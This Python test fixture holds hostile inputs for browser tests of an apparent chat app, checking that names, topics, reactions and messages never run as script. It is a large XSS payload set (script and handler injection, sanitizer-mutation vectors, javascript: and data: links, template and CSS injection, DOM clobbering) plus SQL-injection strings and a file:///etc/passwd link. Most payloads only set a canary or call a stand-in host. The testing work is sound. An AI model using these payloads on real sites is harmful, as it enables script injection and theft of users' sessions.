"""Texts, names and topics that try to do harm to a page that shows them.

Whatever a script in them could do is one of: `alert`, a name on `window` that begins with ``canary``, a request to
`ELSEWHERE`. None of them may happen. What is hard to see in a source file is written as an escape.
"""

from __future__ import annotations

from itertools import chain
from typing import Final

from tests.browser.hostile_shapes import (
    BOMBS,
    DIRECTIONS,
    EMOJI,
    HALF_CHARACTERS,
    HOMOGLYPHS,
    INVISIBLE,
    LONG,
    MARKS,
    RLO,
    ZALGO,
)

ELSEWHERE: Final = "elsewhere.invalid"
CANARY: Final = "canary"

_RUN: Final = "window.canary=1"
_FAR: Final = f"//{ELSEWHERE}/x"
SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script >{_RUN}</script\t\nbar>",
    f"<script src={_FAR}></script>",
    f"<script type=module>import '{_FAR}.js'</script>",
    f"<script/xss>{_RUN}</script/xss>",
    f"<script\x0c>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"<!--><script>{_RUN}</script-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'></noscript>",
    f"<template><script>{_RUN}</script></template>",
    f"<title></title><script>{_RUN}</script>",
    f"<textarea></textarea><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"';{_RUN}//",
    f'";{_RUN};//\\";{_RUN}//',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{_RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={_RUN}//>\\x3e",
)

HANDLERS: Final = (
    f"<img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}">',
    f"<IMG SRC=x ONERROR={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror\n=\n{_RUN}>",
    f"<img src=x:x onerror={_RUN} //",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    f"<img src='{_FAR}.png'>",
    f"<img srcset='{_FAR}.png 1x'>",
    f"<img src=x onerror={_RUN}",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>details</details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>marquee</marquee>",
    f"<div onpointerover={_RUN} style='position:fixed;inset:0;z-index:9999'>over all</div>",
    f"<p onmouseover={_RUN}>mouse</p>",
    f"<button popovertarget=p onclick={_RUN}>press</button><div popover id=p onbeforetoggle={_RUN}>popover</div>",
    f"<style>@keyframes k{{}}</style><b style='animation-name:k' onanimationstart={_RUN}>animated</b>",
    f"<iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe>",
    f"<iframe src='javascript:parent.{CANARY}=1'></iframe>",
    f"<iframe src='{_FAR}'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<object data='data:text/html,<script>parent.{CANARY}=1</script>'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<form action='javascript:{_RUN}'><input type=submit autofocus></form>",
    f"<form><button formaction='javascript:{_RUN}'>send</button></form>",
    f"<isindex action='javascript:{_RUN}' type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<meta http-equiv=refresh content='0;url=https:{_FAR}'>",
    f"<base href='https://{ELSEWHERE}/'>",
    f"<link rel=stylesheet href='{_FAR}.css'>",
    f"<link rel=prefetch href='{_FAR}'>",
    f"<table background='javascript:{_RUN}'><tr><td background='{_FAR}'>cell</td></tr></table>",
    f"<xss contenteditable autofocus onfocus={_RUN} tabindex=1>custom</xss>",
    f"<dialog open oncancel={_RUN}>dialog</dialog>",
    f"<portal src='javascript:{_RUN}'></portal>",
    f"<frameset onload={_RUN}><frame src='javascript:{_RUN}'></frameset>",
)

VECTOR_AND_MATH: Final = (
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='{_FAR}.js'></script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text x=20 y=20>press</text></a></svg>",
    f"<svg><set attributeName=href to='javascript:{_RUN}'></set></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'></use></svg>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f"<svg><image href='{_FAR}.png'></image></svg>",
    f"<svg><style>@import '{_FAR}.css'</style></svg>",
    f"<math><mi xlink:href='javascript:{_RUN}'>press</mi></math>",
    f"<math href='javascript:{_RUN}'>press</math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>press</maction></math>",
)

# What a parser changes when its own output is read again.
MUTATIONS: Final = (
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f'<svg><p><style><g title="</style><img src onerror={_RUN}>">',
    f'<math><mi//xlink:href="data:x,<script>{_RUN}</script>">',
    f'<noembed><img title="</noembed><img src onerror={_RUN}>"></noembed>',
    f'<xmp><p title="</xmp><svg/onload={_RUN}>"></xmp>',
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<svg><![CDATA[><img src=x onerror={_RUN}>]]></svg>",
    f"<option><style></option></select><b><img src=x onerror={_RUN}></style></option>",
    f'<table><caption><svg><title><table></table><style><a title="</style><img src onerror={_RUN}>">',
    f"<template><s><template><s><img src=x onerror={_RUN}>@</s></template></s></template>",
    f"<p><svg><desc><p></desc><style><!--</style><img src=x onerror={_RUN}>--></svg>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror={_RUN}>',
)

LINKS: Final = (
    f"[press](javascript:{_RUN})",
    f"[press](JaVaScRiPt:{_RUN})",
    f"[press](javascript&colon;{_RUN})",
    f"[press](&#106;avascript:{_RUN})",
    f"[press](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{_RUN})",
    f"[press](java\tscript:{_RUN})",
    f"[press](<java\\\nscript:{_RUN}>)",
    f"[press](\x01javascript:{_RUN})",
    f"[press]( javascript:{_RUN} )",
    f"[press](<javascript:{_RUN}>)",
    f"[press](javascript://%0a{_RUN})",
    "[press](javascript:alert('1'))",
    f"[press](vbscript:{_RUN})",
    f"[press](data:text/html,<script>{_RUN}</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[press](blob:https://{ELSEWHERE}/1)",
    "[press](file:///etc/passwd)",
    "[press](intent://scan/#Intent;end)",
    f"[press](view-source:https://{ELSEWHERE}/)",
    f"[press][x]\n\n[x]: javascript:{_RUN}",
    f"[press][y]\n\n[y]: data:text/html,{_RUN} 'title'",
    f"<javascript:{_RUN}>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    f"javascript:{_RUN}",
    f"<a href='javascript:{_RUN}'>press</a>",
    f"<a href='jav&#x0A;ascript:{_RUN}'>press</a>",
    f"<a href=' &#14; javascript:{_RUN}'>press</a>",
    f"<a href='{_FAR}' target=_parent ping='{_FAR}'>press</a>",
    f"<area href='javascript:{_RUN}'>",
    f"[press](https://{ELSEWHERE}/ \"title' onmouseover='{_RUN}\")",
    f"[press](https://{ELSEWHERE}/'onmouseover='{_RUN})",
    f'[press](https://{ELSEWHERE}/"onmouseover="{_RUN})',
    f'https://{ELSEWHERE}/"onmouseover="{_RUN}',
    f"https://{ELSEWHERE}/<script>{_RUN}</script>",
    f"https://user:password@{ELSEWHERE}/",
    f"[https://bank.example](https://{ELSEWHERE}/)",
    f"https://{ELSEWHERE}/{RLO}gpj.exe",
    f"[a [b](javascript:{_RUN}) c](javascript:{_RUN})",
    f"mailto:x@{ELSEWHERE}?subject=<script>{_RUN}</script>",
    f"www.{ELSEWHERE}/<svg/onload={_RUN}>",
)

MARKDOWN: Final = (
    f"![picture](https:{_FAR}.png)",
    f"![picture](javascript:{_RUN})",
    f'![picture](x "\\" onerror={_RUN}")',
    f'!["onerror="{_RUN}](x)',
    f"![picture][p]\n\n[p]: https:{_FAR}.png",
    f"[![picture](https:{_FAR}.png)](javascript:{_RUN})",
    f'```"onmouseover="{_RUN}\nfence\n```',
    f"```js\n</code></pre><script>{_RUN}</script>\n```",
    f"```<script>{_RUN}</script>\nfence\n```",
    '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
    "```__proto__\nfence\n```",
    "```constructor\nfence\n```",
    "~~~html\n<img src=x onerror=alert(1)>\n~~~",
    "```\nnever closed",
    f"`<script>{_RUN}</script>`",
    f"``<img src=x onerror={_RUN}>``",
    f"    <script>{_RUN}</script>",
    f"**<img src=x onerror={_RUN}>**",
    f"*<script>{_RUN}</script>*",
    f"> <script>{_RUN}</script>\n> > <svg onload={_RUN}>",
    f"- <img src=x onerror={_RUN}>\n  - <script>{_RUN}</script>",
    f"# <svg onload={_RUN}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | javascript:{_RUN} |",
    f"line one  \n<br onmouseover={_RUN}>line two",
    f"[x]: https://{ELSEWHERE}/ 'only a definition, and this sentence'\n\nseen",
    "[^1]: footnote\n\ntext[^1]",
    f"<div>\n\n**bold** <script>{_RUN}</script>\n\n</div>",
    f"**bold<b>*both</b>** and* {_RUN}",
    "***~~__all of it, never closed",
    "- [x] <input type=checkbox autofocus onfocus=alert(1)>",
    "$$\\href{javascript:alert(1)}{press}$$",
    "1. one\n1. two\n999999999999999. much",
    "---\ntitle: front matter\n---\ntext",
    "setext\n======\n\nhead\n------",
    f"@<img src=x onerror={_RUN}> and @olga<script>{_RUN}</script>",
    f":<img src=x onerror={_RUN}>: and :__proto__: and :constructor:",
)

ENTITIES: Final = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"&#x3c;svg onload={_RUN}&#x3e;",
    "&#0; &#xFFFFFFFF; &#x110000; &#xD800; &bogus; & &amp;",
    f"&#0000060script&#0000062{_RUN}",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    "&NewLine;&Tab;&nbsp;&ZeroWidthSpace;entities",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
)

BROKEN: Final = (
    "</div></div></div></main></body></html> after the end",
    "</li></ul></ol></article></section> closed too often",
    "<b><i><u><s>never closed",
    '<div class="never closed',
    "<a href='never closed",
    "<!-- never closed",
    "<b>crossed <i>tags</b> here</i>",
    "<table><div>foster</div><tr><td>parent",
    "<p><p><p><div></p></div>",
    "<" * 2000 + " less",
    ">" * 2000 + " quotes",
    "<<<<>>>><><><>",
    "<div>" * 300 + "deep",
    "> " * 300 + "deep quote",
    "- " * 300 + "deep list",
    "[" * 1000 + "brackets",
    "[" * 500 + "x" + "](" * 500 + "y",
    "![" * 800 + "pictures",
    "(" * 1000 + ")" * 1000 + "round",
)

CLOBBERING: Final = (
    f"<a id={CANARY}></a><a id={CANARY} name=x href='{_FAR}'>anchor</a>",
    "<form name=body><input name=firstChild></form>",
    "<img name=getElementById><img name=querySelector>",
    "<form id=document><input name=cookie></form>",
    "<input id=app><input name=app>",
    "<a id=main></a><a id=composer></a><p id=top>ids</p>",
    "<p data-testid=message data-seq=1>a message in a message</p>",
    "<p class='message mention'>classes</p>",
    "<iframe name=top></iframe><embed name=parent>",
    "<form id=attributes><input id=attributes></form>",
    "# __proto__",
    "## constructor",
    "<slot name=x>slot</slot><div slot=x>into a slot</div>",
)

# Of template languages. Nothing of them may be worked out: 7*7 stays 7*7.
TEMPLATES: Final = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{7*7}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "{#if true}yes{/if}",
    "{{constructor.constructor('window.canary=1')()}}",
    "{{$on.constructor('window.canary=1')()}}",
    "${window.canary=1}",
    "`${window.canary=1}`",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\" ng-app ng-csp x-data x-init='window.canary=1'>div</div>",
    "{name} {count} {value} {0} %s %d %(name)s $1 $& \\1",
    "t('common.name')",
    "__proto__ constructor toString valueOf hasOwnProperty null undefined NaN",
)

STYLES: Final = (
    "<style>*{display:none!important}</style>",
    "<style>body{background:url(//elsewhere.invalid/x)}</style>",
    "<style>@import '//elsewhere.invalid/x.css';</style>",
    "<p style='position:fixed;inset:0;background:red;z-index:99999'>cover</p>",
    "<p style='background:url(javascript:alert(1))'>url</p>",
    "<p style='width:expression(alert(1))'>expression</p>",
    "<p style='behavior:url(//elsewhere.invalid/x.htc);-moz-binding:url(//elsewhere.invalid/x)'>binding</p>",
    "<p style='margin-left:-9999px;width:99999px'>wide</p>",
    "<b hidden>hidden words</b>",
    "<font size=99999 color=white>white</font>",
    "</style><style>@font-face{font-family:x;src:url(//elsewhere.invalid/x)}</style>",
    "color:red;background:url(//elsewhere.invalid/x)",
)

TEXTS: Final = tuple(
    chain(
        *(SCRIPTS, HANDLERS, VECTOR_AND_MATH, MUTATIONS, LINKS, MARKDOWN, ENTITIES, BROKEN, CLOBBERING),
        *(TEMPLATES, STYLES, DIRECTIONS, INVISIBLE, ZALGO, EMOJI, LONG, BOMBS, HOMOGLYPHS),
    )
)

# As far as the server allows them: 64 visible characters without @ ~ , / \ ? # % < > & " ' ` | * : ;
ROOM_NAMES: Final = (
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "{{7*7}}".replace("*", "+"),
    "${alert(1)}",
    "[press](javascript)",
    "![picture](x)",
    "-- drop table rooms",
    "W" * 64,
    "\ufdfd" * 20,
    "".join(letter + MARKS[:20] for letter in "zal"),
    "g\u0435neral",
    "\u05d0\u05d1\u05d2 room \u05d3",
    "\U0001f468\U0001f469",
    "null",
    "login",
    "..general",
    "42",
)

DISPLAY_NAMES: Final = (
    f"<img src=x onerror={_RUN}>",
    f'"><script>{_RUN}</script>',
    "{{constructor.constructor('alert(1)')()}}",
    f"[press](javascript:{_RUN})",
    "**bold** `code` ~~gone~~",
    "".join(letter + MARKS[:30] for letter in "za"),
    "W" * 64,
    "\u05d0\u05d1\u05d2 (admin)",
    "\ufdfd" * 20,
    "&lt;b&gt; &amp; &#x3c;",
    "Olga",
    "' OR 1=1 --",
)

USER_NAMES: Final = (
    "constructor",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "null",
    "undefined",
    "W" * 32,
    "\u0645\u0631\u064a\u0645",
    "\u043elga",
    "0__proto__",
    "me",
    "x_" * 15 + "x",
)

TOPICS: Final = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"[press](javascript:{_RUN})",
    f"https://{ELSEWHERE}/<svg/onload={_RUN}>",
    "w" * 500,
    "{{7*7}} ${7*7}",
    "".join(letter + MARKS for letter in "zalgo"),
    "\ufdfd" * 100,
)

# At most 32 characters without spaces, as the server has it: it knows no list of emoji.
REACTIONS: Final = (
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "W" * 32,
    "__proto__",
    "constructor",
    "Z" + MARKS[:31],
    "\ufdfd" * 8,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "{{7*7}}",
)

COUNT: Final = sum(
    map(len, (TEXTS, HALF_CHARACTERS, ROOM_NAMES, DISPLAY_NAMES, USER_NAMES, TOPICS, REACTIONS))
)
